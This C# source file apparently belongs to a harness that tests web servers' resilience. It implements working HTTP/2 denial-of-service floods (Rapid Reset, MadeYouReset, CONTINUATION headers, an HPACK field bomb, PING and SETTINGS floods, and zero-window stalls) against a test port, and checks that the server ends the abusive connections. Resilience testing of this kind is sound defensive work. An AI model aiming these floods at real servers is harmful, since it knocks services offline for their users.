using System.Net.Sockets;
using Vitrine.Attacks.Harness;
using static Vitrine.Attacks.Wire.Http2Frames;

namespace Vitrine.Attacks.Greedy;

/// <summary>What HTTP/2 lets one connection do many times over.</summary>
internal static class Multiplexed
{
    private const string Large = "/large.bin";
    private const int LargeBytes = 500_000;
    private const int AtATime = 50;

    // Objects, a table of fields (4 KB), a small buffer, and a queue of 66 KB while something is sent.
    private const int ConnectionBytes = 80 * 1024;

    // What a stream keeps that cannot go on: an object and a share of a file.
    private const int StreamBytes = 1024;
    private const int Streams = 100;

    // Connections that were ended, and whose end the attacker has not seen yet.
    private const int MostLingering = 1_000;

    /// <summary>CVE-2023-44487: requests that are given up at once.</summary>
    public static Siege RapidReset(Plan plan) => Flood(
        "h2-rapid-reset", "requests of HTTP/2 and their RST_STREAM, as fast as can be", plan,
        stream => [.. Get(stream, Large), .. Number(Reset, stream, 8)]);

    /// <summary>CVE-2025-8671: requests, and what makes the server give them up.</summary>
    public static Siege MadeYouReset(Plan plan) => Flood(
        "h2-made-you-reset", "requests of HTTP/2 and a WINDOW_UPDATE of 0, as fast as can be", plan,
        stream => [.. Get(stream, Large), .. Number(Window, stream, 0)]);

    /// <summary>CVE-2024-27316: heads that have no end.</summary>
    public static Siege EndlessHead(Plan plan) => Flood(
        "h2-continuation", "heads of HTTP/2 that go on in CONTINUATION for ever", plan,
        stream => stream == 1
            ? Frame(Headers, EndStream, 1, Block("/page.html"))
            : Frame(Continuation, 0, 1, new byte[1_000]));

    /// <summary>CVE-2016-6581, CVE-2026-49975: a field of 4 KB that is a byte on the wire, 8,000 times.</summary>
    public static Siege FieldBomb(Plan plan)
    {
        byte[] block =
        [
            .. Block("/page.html"), 0x40, 1, (byte)'x', 0x7F, 0xA1, 0x1E, .. Enumerable.Repeat((byte)'y', 4_000),
            .. Enumerable.Repeat((byte)0xBE, 8_000),
        ];
        return Flood(
            "h2-field-bomb", "heads of 12 KB that stand for 32 MB of fields, as fast as can be", plan,
            stream => Frame(Headers, EndHeaders | EndStream, stream, block));
    }

    /// <summary>CVE-2019-9512.</summary>
    public static Siege Pings(Plan plan) => Flood(
        "h2-pings", "PING, as fast as can be, and none of the answers is read", plan,
        _ => Frame(PingType, 0, 0, new byte[8]), reads: false);

    /// <summary>CVE-2019-9515.</summary>
    public static Siege Settings(Plan plan) => Flood(
        "h2-settings", "SETTINGS, as fast as can be, and none of the answers is read", plan,
        _ => Frame(SettingsType, 0, 0, []), reads: false);

    /// <summary>CVE-2019-9517 and its like: many large replies, and room for a byte a second.</summary>
    public static Siege NoRoom(Plan plan)
    {
        var count = plan.Pick(200, 20);
        return new Siege(
            "h2-zero-window",
            $"{count:N0} connections with {Streams} requests each for 500 KB, and room for a byte a second",
            count, (long)count * (ConnectionBytes + (Streams * StreamBytes)), assault => Stall(assault, count))
        {
            Prepare = folder => folder.Write(Large[1..], new byte[LargeBytes]),
        };
    }

    // Each connection sends more of the same until it is ended, and then begins anew.
    private static Siege Flood(string name, string what, Plan plan, Func<int, byte[]> piece, bool reads = true) => new(
        name, what, AtATime, (long)AtATime * (ConnectionBytes + LargeBytes), assault =>
        {
            var buffer = new byte[64 * 1024];
            var next = new int[AtATime];
            var sent = 0L;
            using var crowd = new Crowd(assault.Port, AtATime);
            while (!assault.IsOver)
            {
                crowd.Each(
                    (socket, number, isNew) =>
                    {
                        if (isNew) next[number] = 1;
                        byte[] bytes = isNew ? Begin() : [];
                        for (var i = 0; i < Streams; i++, next[number] += 2) bytes = [.. bytes, .. piece(next[number])];
                        SendAll(socket, bytes);
                        sent += Streams;
                        while (reads && Crowd.Receive(socket, buffer) > 0) { }
                    },
                    () => assault.IsOver);
            }
            assault.Row.Note($"{sent:N0} sent on {crowd.Opened:N0} connections");
            assault.Row.AtLeast("ended by the server, or not read any more", crowd.Ended, 1);
        })
    {
        Descriptors = MostLingering,
        Length = TimeSpan.FromSeconds(plan.Pick(20, 8)),
        Prepare = folder => folder.Write(Large[1..], new byte[LargeBytes]),
    };

    // All of it, or it is ended: half a frame would be another attack.
    private static void SendAll(Socket socket, ReadOnlySpan<byte> bytes)
    {
        var tries = 0;
        while (!bytes.IsEmpty)
        {
            var count = Crowd.Send(socket, bytes);
            bytes = bytes[count..];
            if (count > 0) continue;
            if (++tries > 100) throw new SocketException((int)SocketError.TimedOut);
            Thread.Sleep(1);
        }
    }

    private static void Stall(Assault assault, int count)
    {
        var buffer = new byte[64 * 1024];
        using var crowd = new Crowd(assault.Port, count);
        while (!assault.IsOver)
        {
            crowd.Each(
                (socket, _, isNew) =>
                {
                    byte[] bytes = isNew ? Begin(window: 0) : [];
                    for (var stream = 1; stream < 2 * Streams; stream += 2)
                        bytes = [.. bytes, .. isNew ? Get(stream, Large) : Number(Window, stream, 1)];
                    SendAll(socket, bytes);
                    while (Crowd.Receive(socket, buffer) > 0) { }
                },
                () => assault.IsOver);
            Thread.Sleep(1_000);
        }
        assault.Row.Note($"{crowd.Opened:N0} connections, {crowd.Ended:N0} ended by the server");
    }
}
